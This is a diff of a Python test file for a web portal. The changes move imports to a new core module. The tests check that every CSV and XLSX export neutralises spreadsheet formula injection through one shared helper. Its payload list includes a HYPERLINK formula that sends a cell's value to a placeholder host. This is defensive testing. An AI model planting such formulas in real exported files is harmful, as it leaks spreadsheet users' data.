@@ -1,5 +1,5 @@
 """CSV/XLSX formula injection is neutralised in every file the portal writes, by one shared
-helper (portal.spreadsheets.formula_safe)."""
+helper (core.spreadsheets.formula_safe)."""
 from __future__ import annotations
 
 import csv
@@ -8,7 +8,7 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from portal.spreadsheets import formula_safe, formula_safe_text
+from core.spreadsheets import formula_safe, formula_safe_text
 
 PAYLOADS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://x/?"&A1)']
 
@@ -27,9 +27,9 @@ def test_formula_safe_text_for_csv():
 
 
 def test_every_exporter_uses_the_shared_helper():
+    from core import figures
     from financing import bank_views
     from partners import exports
-    from portal.dashboard import figures
     from training import documents
 
     assert exports.neutralise is formula_safe
@@ -104,8 +104,8 @@ def test_bank_lead_csv(client):
 def test_training_xlsx_exports(client):
     from django.utils import timezone
 
-    from training import services
     from tests.training.factories import RegistrationFactory, SessionFactory, TrainingOfficerFactory
+    from training import services
 
     session = SessionFactory(first_day=timezone.localdate(), capacity=20)
     officer = TrainingOfficerFactory().user
@@ -124,7 +124,7 @@ def test_training_xlsx_exports(client):
 
 
 def test_dashboard_csv():
-    from portal.dashboard.figures import figure_csv
+    from core.figures import figure_csv
 
     figure = {"columns": ["=kolom", "jumlah"], "csv_rows": [[p, "<5"] for p in PAYLOADS]}
     rows = list(csv.reader(io.StringIO(figure_csv(figure))))
